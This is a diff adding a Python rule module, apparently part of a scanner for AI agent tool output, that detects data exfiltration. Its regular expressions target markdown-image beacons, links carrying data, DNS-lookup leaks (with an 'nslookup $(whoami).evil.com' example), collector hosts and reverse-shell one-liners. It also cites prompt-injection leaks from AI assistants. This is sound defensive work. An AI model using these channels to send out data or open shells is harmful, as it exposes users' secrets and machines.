@@ -1,0 +1,129 @@
+"""Exfiltration rules (prefix ``exfil.``): text whose rendering or execution sends data out."""
+
+from __future__ import annotations
+
+import re
+from functools import partial
+
+from cordon.content._rule import Rule, alt
+
+_R = partial(Rule, category="exfiltration")
+
+_DATA_PARAM = alt(
+    "data", "d", "exfil", "leak", r"secrets?", "password", "pwd", "passwd", "pass",
+    "conversation", "convo", "history", "chat", "content", "context", "info", "payload",
+    "stolen", "dump", "creds", r"credentials?", "apikey", "api_key", "ssn", "prompt", "memory",
+    "msg", "message", "q", "c", "text", "body", "env", "session", "cookie",
+)
+#: a query value carrying a template placeholder ({...}, $VAR, <...>, [...])
+_PLACEHOLDER_VALUE = r"[a-z0-9_.-]{1,24}=[^\s)&\"'>]{0,200}?[{}$<\[]"
+_URL_HEAD = r"(?:https?:)?//[^\s)\"'>]{1,300}?[?&]"
+_BEACON_QUERY = rf"{_URL_HEAD}(?:{_DATA_PARAM}=|{_PLACEHOLDER_VALUE})"
+
+#: badge and status-image hosts whose query strings are labels, not data
+_BADGE_HOSTS = re.compile(
+    rb"//(?:img\.shields\.io|badge\.fury\.io|badgen\.net|codecov\.io|coveralls\.io|"
+    rb"github\.com/[^\s)]*/badge\.svg|api\.netlify\.com|circleci\.com|travis-ci\.(?:org|com)|"
+    rb"readthedocs\.org|pepy\.tech|snyk\.io)"
+)
+
+
+def _not_badge(match: bytes) -> bool:
+    return _BADGE_HOSTS.search(match) is None
+
+
+RULES: tuple[Rule, ...] = (
+    _R(
+        id="exfil.markdown_image",
+        severity="high",
+        mention_severity="low",
+        summary="A markdown or HTML image whose URL query carries data or a placeholder for it "
+        "(a zero-click beacon).",
+        why="A client that renders the image fetches the URL automatically, sending whatever "
+        "the agent filled into the query to the attacker's server.",
+        fix="Warn mode replaces the image; block mode refuses the result. Clients should not "
+        "auto-load remote images from tool output.",
+        source="Rehberger, 'Bing Chat: data exfiltration via markdown images' (2023); "
+        "CVE-2025-32711 (EchoLeak, Microsoft 365 Copilot)",
+        pattern=(
+            rf"!\[[^\]\n]{{0,200}}\]\(\s*<?{_BEACON_QUERY}"
+            rf"|<img\b[^>]{{0,200}}?\bsrc\s*=\s*[\"']?{_BEACON_QUERY}"
+        ),
+        triggers=("![", "<img"),
+        window=700,
+        accept=_not_badge,
+    ),
+    _R(
+        id="exfil.markdown_link",
+        severity="medium",
+        mention_severity="low",
+        summary="A markdown link whose URL query carries data or a placeholder for it.",
+        why="One click (or a client's link preview) sends the data; less automatic than an "
+        "image, still an exfiltration channel.",
+        fix="Warn mode replaces the link target; review the source.",
+        source="Rehberger, Embrace The Red (link-based exfiltration); OWASP LLM02:2025",
+        pattern=rf"(?<!!)\[[^\]\n]{{1,200}}\]\(\s*<?{_BEACON_QUERY}",
+        triggers=("](",),
+        window=700,
+        accept=_not_badge,
+    ),
+    _R(
+        id="exfil.dns_command",
+        severity="high",
+        summary="A DNS or HTTP lookup whose host name is built from a command substitution or a "
+        "variable ('nslookup $(whoami).evil.com').",
+        why="Data encoded into DNS labels leaves through the resolver even when HTTP egress is "
+        "blocked.",
+        fix="Block the result; deny such arguments in shell tools.",
+        source="MITRE ATT&CK T1071.004 (DNS); CVE-2025-55284 (Claude Code DNS exfiltration)",
+        pattern=(
+            r"\b(?:nslookup|dig|host|ping|curl|wget|resolve-dnsname)\b[^\n]{0,60}?"
+            r"(?:\$\([^)\n]{1,80}\)|`[^`\n]{1,80}`|\$\{?[a-z_][a-z0-9_]*\}?)"
+            r"\.(?:[a-z0-9-]+\.)*[a-z0-9-]+\.[a-z]{2,24}\b"
+        ),
+        triggers=("nslookup", "dig", "host", "ping", "curl", "wget", "resolve-dnsname"),
+        window=250,
+    ),
+    _R(
+        id="exfil.collector_host",
+        severity="medium",
+        summary="A known data-collection host: webhook.site, requestbin, pipedream, ngrok, "
+        "interactsh, Burp Collaborator, dnslog, canarytokens.",
+        why="These services exist to receive arbitrary requests; in tool output they are the "
+        "usual drop point of an exfiltration payload.",
+        fix="Review the result; block egress to these hosts by policy.",
+        source="MITRE ATT&CK T1567 (Exfiltration Over Web Service)",
+        pattern=(
+            r"\b(?:webhook\.site|requestbin\.(?:com|net)|[a-z0-9-]+\.m\.pipedream\.net|"
+            r"[a-z0-9-]+\.ngrok(?:-free)?\.(?:io|app|dev)|[a-z0-9]+\.oast\.(?:fun|me|pro|live|"
+            r"site|online)|[a-z0-9]+\.oastify\.com|[a-z0-9]+\.burpcollaborator\.net|"
+            r"interact\.sh|[a-z0-9]+\.dnslog\.cn|[a-z0-9]+\.ceye\.io|canarytokens\.com|"
+            r"[a-z0-9-]+\.beeceptor\.com)\b"
+        ),
+        triggers=("webhook.site", "requestbin", "pipedream", "ngrok", "oast", "burpcollaborator",
+                  "interact.sh", "dnslog", "ceye", "canarytokens", "beeceptor"),
+        window=120,
+    ),
+    _R(
+        id="exfil.reverse_shell",
+        severity="critical",
+        summary="A reverse-shell one-liner: /dev/tcp redirection, nc -e, socat exec, mkfifo "
+        "pipes, Python socket+pty, PowerShell TCPClient.",
+        why="Running it hands an interactive shell on the agent's machine to a remote host.",
+        fix="Block the result; deny shell tools these arguments.",
+        source="MITRE ATT&CK T1059.004 (Unix Shell); PayloadsAllTheThings, Reverse Shell "
+        "Cheatsheet",
+        pattern=(
+            r"/dev/(?:tcp|udp)/[\w.-]+/\d{1,5}"
+            r"|\b(?:nc|ncat|netcat)\b[^\n]{0,60}?\s-[ec]\s+(?:/bin/)?(?:(?:ba|z|da)?sh|cmd\.exe)\b"
+            r"|\bsocat\b[^\n]{0,80}?\bexec:"
+            r"|\bmkfifo\b[^\n]{0,80}?\|\s*(?:nc|ncat|netcat)\b"
+            r"|socket\.socket\([^\n]{0,200}?(?:subprocess|os\.dup2|pty\.spawn)"
+            r"|new-object\s+system\.net\.sockets\.tcpclient"
+            r"|\bpty\.spawn\(\s*[\"']/bin/(?:ba)?sh"
+        ),
+        triggers=("/dev/tcp", "/dev/udp", "-e /bin", "-e sh", "-e bash", "-c /bin", "-e cmd",
+                  "-c sh", "-c bash", "socat", "mkfifo", "socket", "tcpclient", "pty.spawn"),
+        window=300,
+    ),
+)
